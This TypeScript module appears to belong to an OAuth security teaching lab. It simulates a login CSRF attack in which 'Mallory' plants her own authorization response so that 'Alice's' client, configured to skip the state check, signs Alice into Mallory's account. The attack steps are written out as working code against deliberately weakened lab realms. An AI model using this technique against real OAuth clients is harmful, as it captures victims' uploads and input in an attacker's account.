import { attackerUrl } from '@/lib/attack-lab/attacker-log';
import type { Outcome } from '@/lib/attack-lab/verdict';
import { recordFetch } from '@/lib/http-trace/record';
import { buildAuthorizationUrl } from '@/lib/oauth-client/authorization-request';
import { validateCallback } from '@/lib/oauth-client/authorization-response';
import type { Check } from '@/lib/oauth-client/checklist';
import { clientPolicy } from '@/lib/oauth-client/client-policy';
import type { ServerMetadata } from '@/lib/oauth-client/discovery';
import { makeCodeVerifier, makeRandomValue, s256ChallengeSteps } from '@/lib/oauth-client/pkce';
import { fail, ok } from '@/lib/oauth-client/result';
import { bearerRequest } from '@/lib/oauth-client/token-requests';
import { processTokenResponse, type TokenSet } from '@/lib/oauth-client/token-response';
import { unverifiedClaims } from '@/lib/oauth-client/unverified-claims';
import { hasWeakness, type RealmDescriptor } from '@/lib/realms/descriptor';
import { networkFailure, type StepOutput } from '../step-output';

/**
 * Login CSRF (RFC 9700 §4.7, RFC 6749 §10.12): Mallory's own sign-in at the photo gallery `spa`,
 * the planting of her authorization response on her site, and Alice's client, which receives it.
 * The client's state check is the realm's client policy (`client-skips-state-check`).
 */

export const CLIENT_ID = 'spa';
export const MALLORY = { username: 'mallory', password: 'mischief' };
const SCOPE = 'openid profile';
/** Alice's client has no sign-in in progress: no state of its own that a response could match. */
export const NO_PENDING_STATE = '(none: no sign-in was started in this browser)';

export interface MalloryRequest {
  authUrl: string;
  state: string;
  redirectUri: string;
}

/**
 * Her authorization request for her own account, with the client's real redirect URI. She leaves
 * PKCE out where the AS lets her (a challenge of hers would bind the code to a verifier Alice's
 * client cannot have); where the AS requires it she has to send one.
 */
export async function buildMalloryRequest(
  step: string,
  origin: string,
  realm: RealmDescriptor,
  metadata: ServerMetadata,
): Promise<StepOutput<MalloryRequest>> {
  const redirectUri = `${origin}/flows/callback`;
  const state = makeRandomValue();
  const pair = await s256ChallengeSteps(makeCodeVerifier());
  const url = new URL(
    buildAuthorizationUrl(metadata.authorization_endpoint, {
      clientId: CLIENT_ID,
      redirectUri,
      scope: SCOPE,
      state,
      codeChallenge: pair.challenge,
    }).url,
  );
  const pkceOptional = hasWeakness(realm, 'as-pkce-optional');
  if (pkceOptional) {
    url.searchParams.delete('code_challenge');
    url.searchParams.delete('code_challenge_method');
  }
  const facts = [
    { label: 'client_id', value: CLIENT_ID },
    { label: 'redirect_uri (the client’s own)', value: redirectUri },
    { label: 'state (Mallory’s)', value: state },
    { label: 'code_challenge', value: pkceOptional ? 'none: this AS does not require PKCE' : 'hers: this AS requires PKCE' },
  ];
  return { step, exchanges: [], facts, result: ok({ authUrl: url.href, state, redirectUri }) };
}

/** Her page: she stores the callback URL of her own sign-in on her site (recorded), which links Alice's browser to it. */
export async function plantCallback(
  step: string,
  origin: string,
  realm: { id: string },
  callbackUrl: string,
): Promise<StepOutput<{ pageUrl: string }>> {
  const url = new URL(callbackUrl);
  const callback = `${url.pathname}${url.search}`;
  const request = new Request(`${origin}${attackerUrl(realm, 'plant')}`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ callback }),
  });
  try {
    const { exchange, response } = await recordFetch(request, { step, from: 'attacker', to: 'attacker' });
    if (response.status !== 204)
      return {
        step,
        exchanges: [exchange],
        result: fail('plant_failed', `Her site refused the planted URL: HTTP ${response.status}.`, step),
      };
    const pageUrl = `${origin}${attackerUrl(realm, 'plant')}`;
    return {
      step,
      exchanges: [exchange],
      facts: [
        { label: 'her page', value: pageUrl },
        { label: 'its link', value: callback },
      ],
      result: ok({ pageUrl }),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}

/** What Alice's client makes of the response that arrives at its callback: state (by the realm's client policy) and iss, then the code. */
export function aliceClientChecks(
  callbackUrl: string,
  realm: RealmDescriptor,
  metadata: ServerMetadata,
): { checks: Check[]; code?: string; refusal?: string } {
  const { checks, result } = validateCallback(callbackUrl, {
    state: NO_PENDING_STATE,
    issuer: realm.issuer,
    issRequired: metadata.authorization_response_iss_parameter_supported === true,
    stateCheck: clientPolicy(realm).stateCheck,
  });
  return result.ok ? { checks, code: result.value.code } : { checks, refusal: result.error.message };
}

export type Redeemed = { tokens: TokenSet } | { outcome: Outcome };

/** Alice's client redeems the code it was handed (RFC 6749 §4.1.3): it has no verifier, since it started no request. */
export async function redeemPlanted(
  step: string,
  metadata: ServerMetadata,
  code: string,
  redirectUri: string,
): Promise<StepOutput<Redeemed>> {
  const form = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: redirectUri, client_id: CLIENT_ID });
  const request = new Request(metadata.token_endpoint, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' },
    body: form.toString(),
  });
  try {
    const { exchange, response, body } = await recordFetch(request, { step, from: 'client', to: 'as' });
    const tokens = processTokenResponse(response.status, body);
    if (!tokens.ok) {
      const what = `the token endpoint refused the planted code (HTTP ${response.status} ${tokens.error.message.replace(/\.$/, '')}), so Alice’s browser was not signed in to Mallory’s account.`;
      return { step, exchanges: [exchange], result: ok({ outcome: { succeeded: false, what } }) };
    }
    const sub = unverifiedClaims(tokens.value.id_token)?.sub;
    return {
      step,
      exchanges: [exchange],
      facts: [{ label: 'ID token sub (decoded)', value: String(sub ?? '(no ID token)') }],
      result: ok({ tokens: tokens.value }),
    };
  } catch (e) {
    return networkFailure(step, e);
  }
}

/** Whose account Alice's session now is: UserInfo (OIDC Core §5.3) with the client's new access token. */
export async function whoIsSignedIn(step: string, metadata: ServerMetadata, tokens: TokenSet): Promise<StepOutput<Outcome>> {
  if (!metadata.userinfo_endpoint) return { step, exchanges: [], result: fail('no_userinfo', 'The AS names no userinfo_endpoint.', step) };
  try {
    const { exchange, response, body } = await recordFetch(bearerRequest(metadata.userinfo_endpoint, tokens.access_token), {
      step,
      from: 'client',
      to: 'as',
    });
    const info = parseUser(body);
    const facts = [
      { label: 'HTTP status', value: String(response.status) },
      { label: 'sub', value: info.sub ?? '(none)' },
      { label: 'name', value: info.name ?? '(none)' },
    ];
    const idSub = unverifiedClaims(tokens.id_token)?.sub;
    const outcome: Outcome =
      response.status === 200 && info.sub === MALLORY.username
        ? {
            succeeded: true,
            what: `Alice’s browser is now signed in to the photo gallery as Mallory: the ID token’s sub is "${String(idSub)}" and UserInfo names "${info.name ?? info.sub}". Whatever Alice uploads or types from now on lands in Mallory’s account.`,
          }
        : {
            succeeded: false,
            what: `the session the client made belongs to "${info.sub ?? 'nobody'}", not to Mallory (UserInfo: HTTP ${response.status}).`,
          };
    return { step, exchanges: [exchange], facts, result: ok(outcome) };
  } catch (e) {
    return networkFailure(step, e);
  }
}

function parseUser(body: string): { sub?: string; name?: string } {
  try {
    const v = JSON.parse(body) as { sub?: unknown; name?: unknown };
    return { sub: typeof v.sub === 'string' ? v.sub : undefined, name: typeof v.name === 'string' ? v.name : undefined };
  } catch {
    return {};
  }
}
